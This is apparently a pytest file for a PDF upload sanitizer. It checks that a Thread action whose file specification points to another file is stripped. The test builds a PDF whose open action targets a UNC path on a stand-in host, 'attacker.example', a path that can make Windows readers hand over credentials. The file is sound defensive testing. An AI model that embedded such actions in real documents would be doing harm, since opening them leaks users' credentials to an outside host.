"""Review of issue 11's upload check: "removes … non-http URIs … wherever they sit". A Thread action
(PDF 32000-1 12.6.4.7) has an /F file specification, like GoToR: it opens a thread in another file,
which may be a UNC path (\\\\host\\share: a Windows reader sends its credentials to that host) or a URL.
GoToR and GoToE are removed for exactly this reason (sanitize.DANGEROUS_ACTIONS); Thread is not."""
from pikepdf import Dictionary, Name, String

from cabinet.pdf.sanitize import inspect_and_clean

from ..hostile_pdfs import _base, _bytes

UNC = "\\\\attacker.example\\share\\thread.pdf"


def test_a_thread_action_into_another_file_is_removed(tmp_path):
    pdf = _base()
    remote = Dictionary(Type=Name.Filespec, F=String(UNC))
    pdf.Root.OpenAction = pdf.make_indirect(Dictionary(S=Name.Thread, F=remote, D=0))
    source, target = tmp_path / "in.pdf", tmp_path / "out.pdf"
    source.write_bytes(_bytes(pdf))
    answer = inspect_and_clean(source, target)
    assert answer["cleaned"], f"served as received, the action to {UNC} with it: {answer}"
    assert b"attacker.example" not in target.read_bytes()
    assert answer["removed"], answer
